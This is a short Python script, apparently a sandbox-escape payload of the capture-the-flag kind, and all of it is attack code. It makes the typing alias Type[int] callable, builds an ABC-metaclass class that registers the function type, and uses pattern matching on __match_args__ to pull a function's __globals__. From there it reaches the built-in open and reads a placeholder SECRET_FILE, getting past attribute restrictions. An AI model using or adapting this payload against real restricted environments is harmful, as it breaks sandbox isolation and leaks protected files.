# An alias of a type, made callable, builds classes behind the fence, and their patterns read locked attributes.
from abc import ABC
from contextlib import ExitStack
from typing import Type

maker = Type[int]
maker._inst = True
kind = maker(ABC)
Made = kind("Made", (), {"__match_args__": ("__globals__",)})
Made.register(type(ExitStack.close))
match ExitStack.close:
    case Made(names):
        print(names["__builtins__"]["open"](SECRET_FILE).read())
